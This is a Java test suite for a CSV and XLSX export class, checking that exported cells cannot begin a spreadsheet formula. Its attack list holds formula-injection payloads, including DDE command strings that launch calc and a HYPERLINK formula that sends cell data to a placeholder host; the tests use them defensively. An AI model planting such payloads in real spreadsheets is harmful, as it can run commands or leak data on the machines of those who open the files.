package org.wengang.evidence;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import java.util.stream.IntStream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.CharRange;
import net.jqwik.api.constraints.Chars;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.wengang.evidence.TabularExport.Column;

class TabularExportTest {
    private static final List<Column> TWO = List.of(new Column("名称", "Name"), new Column("金额", "Amount"));
    private static final List<Column> ONE = List.of(new Column("值", "Value"));

    /** As attackers write them, after OWASP, "CSV Injection", and what spreadsheet programs were seen to run. */
    private static final List<String> ATTACKS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1,1)",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u3000=1+1",
            "\u00A0@SUM(1)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example/?x=\"&A1,\"点击\")",
            "-2+3+cmd|' /C calc'!A0",
            "\"=1+1",
            "'=1+1",
            "+86 575 8300 0000",
            "x;=1+1",
            "x\";=1+1",
            "x\n=1+1",
            "x\t@SUM(1)");

    private static String csv(List<Column> columns, List<?>... rows) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var export = TabularExport.csv(out, columns)) {
            for (var row : rows) {
                export.row(row);
            }
        }
        return out.toString(UTF_8);
    }

    private static XSSFWorkbook xlsx(List<Column> columns, List<?>... rows) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var export = TabularExport.xlsx(out, columns)) {
            for (var row : rows) {
                export.row(row);
            }
        }
        return new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()));
    }

    private static XSSFCell cell(XSSFWorkbook workbook, int row, int column) {
        return workbook.getSheetAt(0).getRow(row).getCell(column);
    }

    @Test
    void csv_eachTypeOfCell() throws IOException {
        assertEquals(
                "\uFEFF\"名称 Name\",\"金额 Amount\"\r\n"
                        + "\"张*\",500.00\r\n"
                        + "\"他说\"\"好\"\", 行\n二\",-12\r\n"
                        + ",true\r\n"
                        + "\"2024-06-30\",\"2024-02\"\r\n"
                        + "\"2026-11-27T01:02:03.123456Z\",12345678901234567890\r\n"
                        + "\"019ac2f1-6b3c-7d2e-9f10-3a5b7c9d1e2f\",0.0000001\r\n"
                        + "\"\",1E+1000000\r\n",
                csv(
                        TWO,
                        List.of("张*", new BigDecimal("500.00")),
                        List.of("他说\"好\", 行\n二", -12),
                        Arrays.asList(null, true),
                        List.of(LocalDate.of(2024, 6, 30), YearMonth.of(2024, 2)),
                        List.of(Instant.parse("2026-11-27T01:02:03.123456Z"), new BigInteger("12345678901234567890")),
                        List.of(UUID.fromString("019ac2f1-6b3c-7d2e-9f10-3a5b7c9d1e2f"), new BigDecimal("1E-7")),
                        List.of("", new BigDecimal("1E+1000000"))));
    }

    @Test
    void csv_attacks_noCellBeginsAFormula() throws IOException {
        for (var attack : ATTACKS) {
            var text = csv(TWO, List.of("a", attack));
            for (var separators : List.of(",", ";", "\t")) {
                for (var cell : cells(text.substring(1), separators)) {
                    assertFalse(isFormula(cell), () -> attack + " became " + cell + " between " + separators);
                }
            }
        }
    }

    /** Whatever it is: no program that reads the list, with whichever separator, finds a cell with a formula. */
    @Property(tries = 2000)
    void csv_anyText_noCellBeginsAFormula(
            @ForAll
                    @CharRange(from = 'a', to = 'c')
                    @Chars({'=', '+', '-', '@', '＝', ';', ',', '\t', '\r', '\n', '"', '\'', ' '})
                    String text)
            throws IOException {
        if (!text.matches("-[0-9]+(\\.[0-9]+)?")) {
            var written = csv(TWO, List.of("a", text));
            for (var separators : List.of(",", ";", "\t")) {
                for (var cell : cells(written.substring(1), separators)) {
                    assertFalse(isFormula(cell), () -> cell);
                }
            }
        }
    }

    private static boolean isFormula(String cell) {
        var seen = cell.replaceAll("^[\\s\\u00A0\\u3000]+", "");
        return !seen.isEmpty() && "=+-@＝＋－＠".indexOf(seen.charAt(0)) >= 0;
    }

    /** Cells as a spreadsheet program finds them: quotes count only where a cell begins. */
    private static List<String> cells(String csv, String separator) {
        var cells = new ArrayList<String>();
        var cell = new StringBuilder();
        boolean isQuoted = false;
        boolean isStart = true;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (isStart && c == '"') {
                isQuoted = true;
                isStart = false;
            } else if (isQuoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                cell.append('"');
                i++;
            } else if (isQuoted && c == '"') {
                isQuoted = false;
            } else if (!isQuoted && (separator.indexOf(c) >= 0 || c == '\n' || c == '\r')) {
                cells.add(cell.toString());
                cell.setLength(0);
                isStart = true;
            } else {
                cell.append(c);
                isStart = false;
            }
        }
        cells.add(cell.toString());
        return cells;
    }

    @Test
    void csv_plainTexts_stayAsTheyAre() {
        for (var text : List.of("-12", "-12.50", "张三", "a-b", "M1-2", "a=b", "2024-06-30", "x, -1", "'n", "")) {
            assertEquals(text, CsvExport.harmless(text));
        }
        assertEquals("'-", CsvExport.harmless("-"));
        assertEquals("'-1-", CsvExport.harmless("-1-"));
        assertEquals("'+1", CsvExport.harmless("+1"));
        assertEquals("'\tx", CsvExport.harmless("\tx"));
        assertEquals("'\rx", CsvExport.harmless("\rx"));
    }

    @Test
    void oddCharacters_areTold() throws IOException {
        var odd = "a\u0000\u202E\uD800\uFFFEb";
        var told = "a〔U+0000〕〔U+202E〕〔U+D800〕〔U+FFFE〕b";
        assertTrue(csv(ONE, List.of(odd)).endsWith("\"" + told + "\"\r\n"));
        try (var workbook = xlsx(ONE, List.of(odd))) {
            assertEquals(told, cell(workbook, 1, 0).getStringCellValue());
        }
    }

    @Test
    void xlsx_eachTypeOfCell() throws IOException {
        try (var workbook = xlsx(
                TWO,
                List.of("张* <b>&", new BigDecimal("500.00")),
                List.of("  行\n二 ", -12),
                Arrays.asList(null, true),
                List.of(LocalDate.of(2024, 6, 30), new BigDecimal("123456789012345")),
                List.of("_x003D_1", new BigDecimal("1234567890123456")),
                List.of("", new BigDecimal("1E+400")))) {
            assertEquals("名称 Name", cell(workbook, 0, 0).getStringCellValue());
            assertEquals("张* <b>&", cell(workbook, 1, 0).getStringCellValue());
            assertEquals(500, cell(workbook, 1, 1).getNumericCellValue());
            assertEquals("0.00", cell(workbook, 1, 1).getCellStyle().getDataFormatString());
            assertEquals("  行\n二 ", cell(workbook, 2, 0).getStringCellValue());
            assertEquals(-12, cell(workbook, 2, 1).getNumericCellValue());
            assertTrue(cell(workbook, 3, 1).getBooleanCellValue());
            assertEquals("2024-06-30", cell(workbook, 4, 0).getStringCellValue());
            assertEquals("123456789012345", cell(workbook, 4, 1).getRawValue());
            assertEquals("_x003D_1", cell(workbook, 5, 0).getStringCellValue());
            assertEquals("1234567890123456", cell(workbook, 5, 1).getStringCellValue());
            assertEquals("1E+400", cell(workbook, 6, 1).getStringCellValue());
        }
    }

    @Test
    void xlsx_attacks_areTextAlsoWhenEdited() throws IOException {
        for (var attack : ATTACKS) {
            try (var workbook = xlsx(ONE, List.of(attack))) {
                var cell = cell(workbook, 1, 0);
                assertEquals(CellType.STRING, cell.getCellType());
                assertEquals(attack.replace("\r", "〔U+000D〕"), cell.getStringCellValue());
                if (!attack.contains("\r")) {
                    assertEquals("@", cell.getCellStyle().getDataFormatString(), attack);
                }
            }
        }
    }

    @Test
    void xlsx_moreRowsThanASheetHolds_nextSheet() throws IOException {
        var out = new ByteArrayOutputStream();
        try (var export = new XlsxExport(out, TWO, 1001)) {
            for (int i = 0; i < 2500; i++) {
                export.row(List.of("r" + i, i));
            }
        }
        try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertEquals(3, workbook.getNumberOfSheets());
            int expected = 0;
            for (var sheet : workbook) {
                assertEquals("名称 Name", sheet.getRow(0).getCell(0).getStringCellValue());
                for (int row = 1; row <= sheet.getLastRowNum(); row++) {
                    assertEquals("r" + expected, sheet.getRow(row).getCell(0).getStringCellValue());
                    assertEquals(expected, sheet.getRow(row).getCell(1).getNumericCellValue());
                    expected++;
                }
            }
            assertEquals(2500, expected);
        }
    }

    @Test
    void xlsx_noRows() throws IOException {
        try (var workbook = xlsx(TWO)) {
            assertEquals(0, workbook.getSheetAt(0).getLastRowNum());
        }
    }

    @Test
    void row_thatDoesNotFit_isRefusedWhole() throws IOException {
        var out = new ByteArrayOutputStream();
        try (var export = TabularExport.csv(out, TWO)) {
            assertThrows(IllegalArgumentException.class, () -> export.row(List.of("a")));
            assertThrows(IllegalArgumentException.class, () -> export.row(List.of("a", 0.1)));
            export.row(List.of("b", 1));
        }
        assertEquals("\uFEFF\"名称 Name\",\"金额 Amount\"\r\n\"b\",1\r\n", out.toString(UTF_8));
    }

    @Test
    void csv_isWrittenAsItComes() throws IOException {
        var out = new ByteArrayOutputStream();
        try (var export = TabularExport.csv(out, TWO)) {
            for (int i : IntStream.range(0, 10_000).toArray()) {
                export.row(List.of("r" + i, i));
            }
            assertTrue(out.size() > 100_000, () -> out.size() + " bytes before the end");
        }
    }
}
